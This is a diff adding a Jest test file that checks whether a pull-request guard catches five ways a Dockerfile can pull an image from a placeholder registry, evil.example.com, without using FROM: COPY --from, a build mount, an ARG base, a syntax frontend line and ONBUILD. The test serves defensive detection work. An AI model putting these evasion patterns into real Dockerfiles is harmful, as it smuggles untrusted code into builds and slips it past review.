@@ -1,0 +1,19 @@
+// Bypass 14: an image enters by another door than FROM.
+import { expect, test } from '@jest/globals';
+import { expectHeld, shown, stage } from './attack.ts';
+
+const { opened, repository } = stage();
+
+test.each([
+  ['COPY --from', 'FROM scratch\nCOPY --from=evil.example.com/tool /t /t\n'],
+  ['a mount', 'FROM debian:12.12-slim\nRUN --mount=type=bind,from=evil.example.com/tool,target=/t /t/run\n'],
+  ['an ARG', 'ARG BASE=evil.example.com/base\nFROM ${BASE}\n'],
+  ['a syntax line', '# syntax=evil.example.com/frontend:1\nFROM debian:12.12-slim\n'],
+  ['an ONBUILD', 'FROM debian:12.12-slim\nONBUILD COPY --from=evil.example.com/tool /t /t\n'],
+])('%s is seen, and named', async (_, text) => {
+  const pull = await opened(repository(), {
+    files: { 'image/Dockerfile': `# SPDX-License-Identifier: Apache-2.0\n${text}` },
+  });
+  expectHeld(pull);
+  expect(shown(pull)).toContain('evil.example.com');
+});
